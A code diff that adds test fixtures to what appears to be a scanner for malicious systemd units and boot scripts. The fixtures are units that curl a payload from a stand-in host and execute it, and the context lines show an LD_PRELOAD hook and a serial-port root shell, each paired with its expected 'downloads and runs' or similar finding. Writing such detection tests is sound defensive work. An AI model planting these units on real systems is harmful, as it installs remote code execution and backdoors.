@@ -211,6 +211,15 @@ FIREWALL = (
          ["downloads and runs"]),
         ("systemd_unit", "ssh.service.d/x.conf", "[Service]\nEnvironment=LD_PRELOAD=/lib/q.so\n",
          ["replaced function"]),
+        ("systemd_unit", "a.service", "[Service]\nExecStart=/run/colours\n"
+         "ExecStartPre=-/usr/bin/curl -o /run/colours http://a.example/v4\n",
+         ["downloads and runs"]),
+        ("systemd_unit", "b.service", "[Service]\nExecStartPre=curl -o /run/b http://a.example/b\n"
+         "ExecStartPre=chmod 0755 /run/b\nExecStart=/bin/sh -c '$$(cat /etc/b.path)'\n",
+         ["downloads and runs"]),
+        ("systemd_unit", "c.service", "[Service]\nExecStartPre=curl -o /run/c.json "
+         "http://a.example/c\nExecStartPre=chmod 0644 /run/c.json\nExecStart=/bin/c /run/c.json\n",
+         []),
         ("boot_script", "etc/inittab", "ttyS1::respawn:/bin/sh\n", ["debug entrance"]),
     ],
 )  # fmt: skip
